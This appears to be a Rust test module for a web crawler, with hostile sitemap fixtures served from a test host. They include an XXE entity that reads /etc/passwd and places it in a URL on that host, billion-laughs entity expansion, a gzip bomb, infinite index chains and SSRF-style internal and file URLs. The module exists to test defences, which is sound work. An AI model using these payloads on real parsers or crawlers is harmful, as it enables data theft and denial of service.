//! Sitemaps that are named in robots.txt.

use crate::hostile::site::{Speech, answer, http_by};
use crate::hostile::world::{Case, case};

fn sitemap(says: impl Fn(&str, u16) -> Option<Vec<u8>> + Send + Sync + 'static) -> Speech {
    http_by(move |ask| match ask.path {
        "/robots.txt" => {
            let text = format!("Sitemap: http://bad.test:{}/sm.xml\n", ask.port);
            Some(answer("200 OK", "", text))
        }
        path => says(path, ask.port)
            .map(|xml| answer("200 OK", "Content-Type: application/xml\r\n", xml)),
    })
}

fn only(xml: impl Fn(u16) -> String + Send + Sync + 'static) -> Speech {
    sitemap(move |path, port| (path == "/sm.xml").then(|| xml(port).into_bytes()))
}

fn index(port: u16, path: &str) -> String {
    format!("<sitemap><loc>http://bad.test:{port}{path}</loc></sitemap>")
}

fn url(port: u16, path: &str) -> String {
    format!("<url><loc>http://bad.test:{port}{path}</loc></url>")
}

pub(crate) fn cases() -> Vec<Case> {
    vec![
        case(
            "sm_self",
            "an index that lists itself",
            sitemap(|path, port| match path {
                "/sm.xml" => Some(
                    format!(
                        "<sitemapindex>{}{}</sitemapindex>",
                        index(port, "/sm.xml"),
                        index(port, "/ok.xml")
                    )
                    .into_bytes(),
                ),
                "/ok.xml" => Some(format!("<urlset>{}</urlset>", url(port, "/found")).into_bytes()),
                _ => None,
            }),
        )
        .asked("/sm.xml", 1..=1)
        .asked("/found", 1..=1),
        case(
            "x_sm_chain",
            "indexes that lead to ever new indexes",
            sitemap(|path, port| {
                let n: u32 = match path {
                    "/sm.xml" => 0,
                    path => path.strip_prefix("/sm-")?.parse().ok()?,
                };
                let next = index(port, &format!("/sm-{}", n + 1));
                Some(format!("<sitemapindex>{next}</sitemapindex>").into_bytes())
            }),
        )
        .requests(130),
        case(
            "sm_laughs",
            "entities that multiply",
            only(|port| {
                let mut text = "<!DOCTYPE x [<!ENTITY a \"ha\">".to_owned();
                for (name, of) in ('b'..='k').zip('a'..='j') {
                    text.push_str(&format!(
                        "<!ENTITY {name} \"{}\">",
                        format!("&{of};").repeat(10)
                    ));
                }
                format!("{text}]><urlset><url><loc>&k;</loc></url>{}</urlset>", url(port, "/found"))
            }),
        )
        .at("/sm.xml", "done 200"),
        case(
            "sm_xxe",
            "an entity that is a file",
            only(|port| {
                format!(
                    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">\
             <!ENTITY f SYSTEM \"http://bad.test:{port}/private/x\">]>\
             <urlset><url><loc>http://bad.test:{port}/&e;&f;</loc></url></urlset>"
                )
            }),
        )
        .at("/sm.xml", "done 200")
        .never("/private"),
        case(
            "sm_broken",
            "cut off within a tag",
            only(|port| {
                format!("<urlset>{}<url><loc>http://bad.test:{port}/cut</lo", url(port, "/found"))
            }),
        )
        .asked("/found", 1..=1),
        case(
            "x_sm_deep",
            "100,000 nested elements",
            only(|port| format!("<urlset>{}{}", url(port, "/found"), "<url>".repeat(100_000))),
        )
        .with(|limits| {
            limits.fetch.body_max = crawler::clock::ByteSize::mib(4);
            limits.fetch.decoded_max = crawler::clock::ByteSize::mib(4);
        })
        .asked("/found", 1..=1),
        case(
            "x_sm_foreign",
            "URLs of other hosts, files and the inside",
            only(|port| {
                format!(
                    "<urlset><url><loc>http://127.0.0.1:{port}/internal/a</loc></url>\
             <url><loc>file:///etc/passwd</loc></url>\
             <url><loc>//localhost:{port}/internal/b</loc></url>\
             {}</urlset>",
                    url(port, "/found")
                )
            }),
        )
        .never("/internal")
        .asked("/found", 1..=1),
        case(
            "x_sm_gzip_bomb",
            "a bomb called a sitemap",
            sitemap(|path, _| {
                (path == "/sm.xml").then(|| super::coding::gzip(&vec![b' '; 60 << 20]))
            }),
        )
        .at("/sm.xml", "done 200"),
        case(
            "x_sm_html",
            "a page instead of a sitemap",
            only(|_| "<html><body><a href=/private/x>not a sitemap</a></body></html>".to_owned()),
        )
        .at("/sm.xml", "done 200"),
        case(
            "x_sm_many",
            "1,000 sitemaps in robots.txt",
            http_by(|ask| {
                let port = ask.port;
                (ask.path == "/robots.txt").then(|| {
                    let lines =
                        (0..1000).map(|n| format!("Sitemap: http://bad.test:{port}/s{n}.xml\n"));
                    answer("200 OK", "", lines.collect::<String>())
                })
            }),
        )
        .with(|limits| limits.filter.host_pages_max = 60)
        .requests(80)
        .lost(),
    ]
}
